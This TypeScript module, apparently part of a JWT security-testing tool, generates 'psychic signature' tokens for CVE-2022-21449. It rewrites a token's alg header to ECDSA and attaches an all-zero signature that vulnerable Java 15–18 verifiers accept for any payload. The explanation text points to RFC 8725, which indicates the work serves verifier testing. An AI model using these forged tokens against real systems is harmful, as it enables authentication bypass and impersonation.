/**
 * `psychic` (CVE-2022-21449): an ECDSA signature with r = s = 0, which Java 15–18's ECDSA accepted for every
 * message and key because it never checked that r and s lie in [1, n − 1].
 */
import { jwsAlgorithm, type JwsAlgorithm } from '../algorithms';
import { assemble, signingInput } from './forge';
import { withHeaderMember, type AttackTarget } from './target';
import type { AttackVariant } from './types';

export function psychicVariants(target: AttackTarget): AttackVariant[] {
  // The token's own ECDSA alg (its verifier holds a key of that curve), else ES256.
  const alg = (jwsAlgorithm(target.alg)?.family === 'ECDSA' ? jwsAlgorithm(target.alg) : jwsAlgorithm('ES256')) as JwsAlgorithm;
  const length = alg.signatureBytes as number; // 64, 96 or 132: R || S, both zero
  return [
    {
      kind: 'psychic',
      variant: alg.name,
      token: assemble(signingInput(withHeaderMember(target.headerText, 'alg', alg.name), target.payloadSegment), new Uint8Array(length)),
      explanation:
        `${alg.name} with r = s = 0 (${length} zero bytes) as the signature: an ECDSA verifier that does not check r and s are in [1, n − 1] (Java 15–18, CVE-2022-21449 "psychic signatures") accepts it for any payload and key. ` +
        'RFC 8725 §3.4 requires cryptographic inputs to be validated.',
    },
  ];
}
